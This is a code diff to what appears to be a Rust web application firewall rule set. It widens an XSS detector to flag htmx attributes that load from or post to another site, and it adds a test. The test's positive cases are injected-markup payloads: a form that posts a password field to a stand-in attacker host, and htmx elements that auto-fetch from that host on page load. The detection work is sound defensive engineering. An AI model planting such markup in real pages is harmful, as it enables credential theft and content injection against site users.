@@ -73,7 +73,7 @@ fn tag_split_markup(s: &str) -> bool {
 }
 
 fn offsite_markup(s: &str) -> bool {
-    (s.contains("url(") || s.contains("<form")) && scan(s).offsite
+    (s.contains("url(") || s.contains("<form") || s.contains("hx-")) && scan(s).offsite
 }
 
 pub(super) fn rules() -> Vec<RuleDef> {
@@ -270,7 +270,7 @@ pub(super) fn rules() -> Vec<RuleDef> {
             t,
             XSS,
             Detector(offsite_markup, b"<"),
-            "XSS: stylesheet or form that loads from or posts to another site",
+            "XSS: stylesheet, form or htmx request that loads from or posts to another site",
         ),
         rule(
             941290,
@@ -325,6 +325,24 @@ mod tests {
         assert!(!fires(941290, "import('./module.js')"));
         assert!(!fires(941290, "new Worker('worker.js')"));
         assert!(!fires(941290, "import (see https://example.com)"));
+    }
+
+    #[test]
+    fn offsite_forms_and_htmx_requests_fire_but_same_site_ones_do_not() {
+        for a in [
+            "<form action='//evil.example/collect' method=post><input name=pass type=password></form>",
+            "<div hx-get=\"//evil.example/x\" hx-trigger=\"load\" hx-swap=\"outerHTML\"></div>",
+            "<img data-hx-post=\"https://evil.example/p\" hx-trigger=load src=x>",
+        ] {
+            assert!(fires(941280, a), "missed {a:?}");
+        }
+        for b in [
+            "<form action=\"/search\"><input name=\"q\"></form>",
+            "<button hx-get=\"/clicked\" hx-swap=\"outerHTML\">Click</button>",
+            "set hx-get to https://api.example/items",
+        ] {
+            assert!(!fires(941280, b), "flagged {b:?}");
+        }
     }
 
     #[test]
